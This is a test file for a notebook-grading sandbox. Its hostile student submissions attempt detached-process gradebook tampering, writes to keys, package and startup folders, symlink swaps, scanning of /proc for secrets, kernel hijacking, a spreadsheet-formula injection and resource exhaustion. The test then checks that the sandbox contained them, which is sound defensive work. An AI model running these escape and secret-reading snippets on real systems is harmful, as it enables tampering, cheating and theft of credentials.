"""Hostile submissions, graded together with honest ones (mesbook.classroom: sandbox, grader, dispatch, cli).

An instructor's folder (roster, salt file, handouts, keys, submissions, an IPython profile) is graded with
``--jobs 2`` from inside that folder. Besides two honest students (the key: 3/3; the untouched handout:
0/3), every other student submits a chapter-4 notebook that attacks the grader: a detached process that
waits for the grader to finish and then rewrites the gradebook or puts a link to the roster in its place;
edits of the keys, the roster, a classmate's submission, the installed package, the virtual environment (a
``.pth`` file) and the IPython startup folder, and links to the roster in place of the gradebook and its
journal; answers asked of ``expected()``, ``solve()`` and the private solvers, and brute force with
``check()``; the keys read, directly and through ``/proc/<ppid>/cwd``; the course salt looked for in every
``/proc/*/cmdline``, ``environ``, ``cwd`` and open file it can see; the other kernel's connection file; a
FIFO, and a link to a key, in place of the answer record; its own run killed (``os.getppid()``); a huge
answer, a spreadsheet formula, a flood of output and a huge allocation; raw sockets, UDP and TCP to the
machine.

Each notebook reports, in its first answer, what it managed (``escaped:`` followed by nothing when the
sandbox held). The test then checks that no file outside the scratch folders changed (every file of the
instructor's folder, of the package and of the environment, by hash), that nothing reached the
machine's listening sockets, that no process outlived its sandbox, and that the gradebook is exactly
what the answers deserve: no credit for any attack, every other student's grades exact.
"""
from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import os
import shutil
import socket
import sys
import time
from pathlib import Path

import nbformat
import pytest
from browser_support import cannot_run

import mesbook
from mesbook.classroom import cli
from mesbook.classroom.gradebook import GRADEBOOK_COLUMNS, cell
from mesbook.classroom.handouts import write_keys
from mesbook.classroom.grader import shown
from mesbook.classroom.notebooks import chapter_paths, chapter_questions, parameters_cell
from mesbook.classroom.sandbox import find_bwrap
from mesbook.classroom.seeds import student_seed
from mesbook.exercises.base import solution


@pytest.fixture(scope="module", autouse=True)
def _bubblewrap():
    """Skipped here without bubblewrap; failed on CI (CI=true), where .ci/run installs it."""
    if find_bwrap() is None:
        cannot_run("bubblewrap is not installed (.ci/run installs it)")



SIGNALS = next(iter(chapter_paths(chapters=["04"])))
GAP, REJECTED, FIRST = chapter_questions(SIGNALS)
SALT = "a course secret"
#: A process of the detached attack: found on the machine after grading, it outlived its sandbox.
SLEEPER = "4242.25"

SETUP = """
import os, sys, json, glob, time, socket
ESCAPED, FOUND = [], {}
"""

TAIL = f"""
from mesbook import exercises
exercises.check("{GAP}", "escaped:" + ",".join(ESCAPED))
exercises.check("{REJECTED}", FOUND.get("{REJECTED}"))
exercises.check("{FIRST}", FOUND.get("{FIRST}"))
"""

ATTACKS = {
    "h-detach": f"""
GB = os.path.join(HOME, "gradebook.csv")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(300):  # until the grader has written the gradebook and ended (when it can see it)
            time.sleep(0.2)
            if os.path.isfile(GB) and not os.path.islink(GB):
                break
        time.sleep(1)
        for target in (GB, os.path.join(HOME, "detached-was-here")):
            try:
                with open(target, "w") as handle:
                    handle.write("student_id,chapter,question,correct\\nh-detach,{SIGNALS},{GAP},True\\n")
            except OSError:
                pass
        try:  # a link in place of the gradebook: grades written through it would land in the roster
            os.symlink(os.path.join(HOME, "roster.csv"), GB + ".link")
            os.replace(GB + ".link", GB)
        except OSError:
            pass
        os.execv("/bin/sleep", ["sleep", "{SLEEPER}"])
    os._exit(0)
""",
    "h-files": f"""
import mesbook, site
def attempt(name, path, mode="a", text="\\n# hostile\\n"):  # only where the folder can be seen
    try:
        with open(path, mode) as handle:
            handle.write(text)
        ESCAPED.append(name)
    except OSError:
        pass
attempt("keys", os.path.join(HOME, "keys", "ana", "{SIGNALS}.ipynb"), "w", "{{}}")
attempt("roster", os.path.join(HOME, "roster.csv"), "a", "mallory\\n")
attempt("classmate", os.path.join(HOME, "submissions", "ana", "{SIGNALS}.ipynb"), "w", "{{}}")
attempt("salt", os.path.join(HOME, "salt.txt"), "a", "guessed\\n")
attempt("package", os.path.join(os.path.dirname(mesbook.__file__), "_hostile.py"), "w", "X = 1\\n")
attempt("package-init", mesbook.__file__)
for folder in site.getsitepackages():
    attempt("pth", os.path.join(folder, "_hostile.pth"), "w", "import os\\n")
attempt("ipython", os.path.join(HOME, ".ipython", "profile_default", "startup", "00-hostile.py"), "w",
        "from mesbook import exercises\\nexercises.check = lambda *a, **k: True\\n")
for name, link in (("gradebook-link", os.path.join(HOME, "gradebook.csv")),
                   ("journal-link", os.path.join(HOME, "gradebook.csv.partial"))):
    try:
        os.symlink(os.path.join(HOME, "roster.csv"), link + ".hostile")
        os.replace(link + ".hostile", link)
        ESCAPED.append(name)
    except OSError:
        pass
""",
    "h-oracle": f"""
from mesbook import exercises
from mesbook.exercises import base
calls = {{"expected": lambda k: exercises.expected(k), "solve": lambda k: exercises.QUESTIONS[k].solve(MARKET_SEED),
         "solution": lambda k: base.solution(k, MARKET_SEED), "_answer": lambda k: base._answer(k, MARKET_SEED),
         "_SOLVERS": lambda k: base._SOLVERS[k](MARKET_SEED)}}
for name, call in calls.items():
    for key in ("{REJECTED}", "{FIRST}"):
        try:
            FOUND[key] = call(key)
            ESCAPED.append(name)
        except Exception:
            pass
""",
    "h-keys": f"""
import re
places = [os.path.join(HOME, "keys"), f"/proc/{{os.getppid()}}/cwd/keys", "/proc/1/cwd/keys",
          *glob.glob("/proc/*/cwd/keys"), *glob.glob("/proc/*/root" + HOME + "/keys")]
for place in places:
    for root, _, files in os.walk(place):
        for name in files:
            try:
                cells = json.load(open(os.path.join(root, name)))["cells"]
            except Exception:
                continue
            ESCAPED.append("keys")
            for source in ("".join(c["source"]) for c in cells):
                found = re.search(r"answer = (.+?)  #.*\\n.*check\\(\\"(ch4\\.\\w+)\\"", source)
                if found:
                    FOUND[found[2]] = eval(found[1])
""",
    "h-peek": f"""
from jupyter_client import BlockingKernelClient
import ipykernel.connect
mine = os.path.realpath(ipykernel.connect.get_connection_file())
files = set(glob.glob("/tmp/jupyter/runtime/*.json") + glob.glob("/proc/*/root/tmp/jupyter/runtime/*.json")
            + glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/*.json")))
for path in files:
    if os.path.realpath(path) == mine:
        continue
    try:
        client = BlockingKernelClient(connection_file=path)
        client.load_connection_file()
        client.start_channels()
        client.execute_interactive("from mesbook import exercises\\n"
                                   "[exercises.check(k, -3) for k in ('{GAP}', '{REJECTED}', '{FIRST}')]", timeout=5)
        ESCAPED.append("kernel")
    except Exception:
        pass
""",
    "h-net": """
for name, family, kind in (("raw", socket.AF_INET, socket.SOCK_RAW), ("packet", socket.AF_PACKET, socket.SOCK_RAW)):
    try:
        socket.socket(family, kind, 1)
        ESCAPED.append(name)
    except OSError:
        pass
import _socket, importlib
importlib.reload(socket)
for host in ("127.0.0.1", HOST_IP):
    try:
        _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(b"hostile", (host, UDP_PORT))
    except OSError:
        pass
    try:
        socket.create_connection((host, TCP_PORT), timeout=2).close()
        ESCAPED.append("tcp " + host)
    except OSError:
        pass
try:
    socket.getaddrinfo("example.org", 443)
    ESCAPED.append("dns")
except OSError:
    pass
""",
    "h-salt": """
texts = [repr(dict(os.environ)), " ".join(sys.argv)]
for pattern in ("/proc/*/cmdline", "/proc/*/environ", "/proc/*/cwd/salt.txt", "/proc/*/root" + HOME + "/salt.txt",
                "/proc/*/fd/*", HOME + "/salt.txt"):
    for path in glob.glob(pattern):
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            try:
                texts.append(os.read(fd, 1 << 16).decode("utf-8", "replace"))
            finally:
                os.close(fd)
        except OSError:
            pass
if any(SALT_SEEN in text for text in texts):
    ESCAPED.append("salt")
""",
    "h-huge": f"""
FOUND["{FIRST}"] = "2" * 20_000_000
FOUND["{REJECTED}"] = '=HYPERLINK("http://example.org/?leak","click")'
for _ in range(50):
    print("x" * 1_000_000)
try:
    hog = bytearray(6 << 30)
    ESCAPED.append("memory")
except MemoryError:
    pass
""",
}

#: Attacks that run after the answers are recorded (the tail cell comes first).
AFTER_TAIL = {
    "h-fifo": """
os.unlink("/scratch/answers.jsonl")
os.mkfifo("/scratch/answers.jsonl")
os.mkdir("/scratch/outcome.json")
""",
    "h-kill": "os.kill(os.getppid(), 9)\n",
    "h-link": f"""
os.unlink("/scratch/answers.jsonl")
os.symlink(os.path.join(HOME, "keys", "ana", "{SIGNALS}.ipynb"), "/scratch/answers.jsonl")
""",
    "h-brute": f"""
from mesbook import exercises
for guess in [*range(500), -2]:
    if exercises.check("{REJECTED}", guess):
        break
""",
}
HOSTILE = [*ATTACKS, *AFTER_TAIL]
HONEST = ["ana", "ben"]


def digest(folder: Path, skip=()) -> dict[str, str]:
    out = {}
    for path in sorted(folder.rglob("*")):
        if path.is_file() and path.name not in skip and "__pycache__" not in path.parts:
            out[str(path.relative_to(folder))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def host_ip() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("192.0.2.1", 9))  # no packet is sent; this picks the outgoing interface
        return probe.getsockname()[0]


def sleepers() -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        with contextlib.suppress(OSError):
            if entry.name.isdigit() and SLEEPER.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
    return found


def hostile_notebook(handout: nbformat.NotebookNode, student: str, constants: dict) -> nbformat.NotebookNode:
    setup = SETUP + "".join(f"{name} = {value!r}\n" for name, value in constants.items())
    cells = [handout.cells[parameters_cell(handout)], nbformat.v4.new_code_cell(setup)]
    if student in ATTACKS:
        cells += [nbformat.v4.new_code_cell(ATTACKS[student]), nbformat.v4.new_code_cell(TAIL)]
    else:
        cells += [nbformat.v4.new_code_cell(TAIL), nbformat.v4.new_code_cell(AFTER_TAIL[student])]
    return nbformat.v4.new_notebook(cells=cells, metadata=handout.metadata)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    home = tmp_path_factory.mktemp("instructor")
    (home / "roster.csv").write_text("student_id\n" + "\n".join([*HOSTILE, *HONEST]) + "\n", encoding="utf-8")
    (home / "salt.txt").write_text(SALT + "\n", encoding="utf-8")
    startup = home / ".ipython" / "profile_default" / "startup"
    startup.mkdir(parents=True)
    (startup / "README").write_text("the instructor's own IPython profile\n")
    common = ["--roster", str(home / "roster.csv"), "--chapters", "04", "--salt-file", str(home / "salt.txt")]
    quiet = io.StringIO()
    with contextlib.redirect_stdout(quiet):
        assert cli.main(["handout", "--out", str(home / "handouts"), *common]) == 0
    chapter = chapter_paths(chapters=["04"])
    assert write_keys({s: student_seed(s, SALT) for s in ("ana", "h-keys")}, chapter, home / "keys") == []

    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("0.0.0.0", 0))
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.bind(("0.0.0.0", 0))
    tcp.listen(8)
    constants = {"HOME": str(home), "HOST_IP": host_ip(), "UDP_PORT": udp.getsockname()[1],
                 "TCP_PORT": tcp.getsockname()[1], "SALT_SEEN": SALT}
    subs = home / "submissions"
    for student in HOSTILE:
        handout = nbformat.read(str(home / "handouts" / student / f"{SIGNALS}.ipynb"), as_version=4)
        (subs / student).mkdir(parents=True)
        nbformat.write(hostile_notebook(handout, student, constants), str(subs / student / f"{SIGNALS}.ipynb"))
    shutil.copytree(home / "keys" / "ana", subs / "ana")
    shutil.copytree(home / "handouts" / "ben", subs / "ben")

    package = Path(mesbook.__file__).parent
    environment = Path(sys.prefix)
    before = {"home": digest(home), "package": digest(package), "env": sorted(os.listdir(next(
        environment.glob("lib/python*/site-packages"))))}
    gradebook = home / "gradebook.csv"
    printed, errors = io.StringIO(), io.StringIO()
    cwd = os.getcwd()
    os.chdir(home)  # the grader works from the instructor's folder, as the guide says
    try:
        with contextlib.redirect_stdout(printed), contextlib.redirect_stderr(errors):
            code = cli.main(["grade", str(subs), "--out", str(gradebook), "--jobs", "2", "--timeout", "120", *common])
    finally:
        os.chdir(cwd)
    graded_at = time.monotonic()
    time.sleep(max(0.0, 6 - (time.monotonic() - graded_at)))  # the detached process would have acted by now
    udp.setblocking(False)
    tcp.setblocking(False)
    reached = []
    with contextlib.suppress(BlockingIOError):
        reached.append(udp.recv(100))
    with contextlib.suppress(BlockingIOError):
        reached.append(tcp.accept())
    udp.close()
    tcp.close()
    left = sleepers()
    for pid in left:  # only when the sandbox failed: don't leave them behind
        with contextlib.suppress(OSError):
            os.kill(pid, 9)
    with open(gradebook, newline="", encoding="utf-8") as handle:
        table = list(csv.reader(handle))
    after = {"home": digest(home, skip={"gradebook.csv"}), "package": digest(package), "env": sorted(os.listdir(
        next(environment.glob("lib/python*/site-packages"))))}
    before["home"].pop("gradebook.csv", None)
    return {"code": code, "printed": printed.getvalue(), "errors": errors.getvalue(), "table": table,
            "before": before, "after": after, "reached": reached, "left": left, "home": home}


def expected_rows() -> list[list[str]]:
    rows = [list(GRADEBOOK_COLUMNS)]
    for student in [*HOSTILE, *HONEST]:
        seed = student_seed(student, SALT)
        right = {key: shown(solution(key, seed)) for key in (GAP, REJECTED, FIRST)}
        if student == "ana":
            cells = {key: ["True", right[key], ""] for key in right}
        elif student in ("ben",):
            cells = {key: ["False", "", "no answer: still None"] for key in right}
        elif student == "h-fifo":
            note = "no answer: its answer record can't be used (answers.jsonl is not a regular file)"
            cells = {key: ["False", "", note] for key in right}
        elif student == "h-link":
            note = "no answer: its answer record can't be used (answers.jsonl is a symbolic link, not a file)"
            cells = {key: ["False", "", note] for key in right}
        else:
            cells = {GAP: ["False", "escaped:", "the answer is a str, not a number"],
                     REJECTED: ["False", "", "no answer: still None"], FIRST: ["False", "", "no answer: still None"]}
            if student == "h-brute":
                cells[REJECTED] = ["False", "-2", "wrong answer"]
            if student == "h-huge":
                formula = '=HYPERLINK("http://example.org/?leak","click")'
                cells[REJECTED] = ["False", formula, "the answer is a str, not a number"]
                cells[FIRST] = ["False", "2" * 1_001, "the answer is more than 64 characters, too long to be an answer"]
        for key in (GAP, REJECTED, FIRST):
            correct, answer, note = cells[key]
            rows.append([student, SIGNALS, key, correct, cell(answer), cell(right[key]), note])
    return rows


def test_grading_finished_and_every_grade_is_exactly_deserved(attacked):
    assert attacked["code"] == 0, attacked["errors"]
    assert attacked["table"] == expected_rows()


def test_nothing_outside_the_scratch_folders_changed(attacked):
    assert attacked["after"] == attacked["before"]
    assert not (attacked["home"] / "detached-was-here").exists()


def test_no_process_outlived_its_sandbox_and_nothing_reached_the_network(attacked):
    assert attacked["left"] == []
    assert attacked["reached"] == []


def test_the_summary_shows_the_same_grades(attacked):
    lines = {line.split()[0]: line.split()[1:] for line in attacked["printed"].splitlines()
             if line.split() and line.split()[0] in [*HOSTILE, *HONEST]}
    assert lines.pop("ana") == ["3/3", "3/3"]
    assert all(score == ["0/3", "0/3"] for score in lines.values()), lines


def test_spreadsheet_formulas_are_escaped_and_long_answers_cut(attacked):
    row = next(r for r in attacked["table"] if r[0] == "h-huge" and r[2] == REJECTED)
    assert row[4].startswith("'=HYPERLINK")
    long = next(r for r in attacked["table"] if r[0] == "h-huge" and r[2] == FIRST)
    assert len(long[4]) < 250 and long[4].endswith("(cut: longer than 200 characters)")
    with open(attacked["home"] / "gradebook.csv", newline="", encoding="utf-8") as handle:
        assert max(len(value) for row in csv.reader(handle) for value in row) < 400
    json.dumps(attacked["table"])  # plain text all through

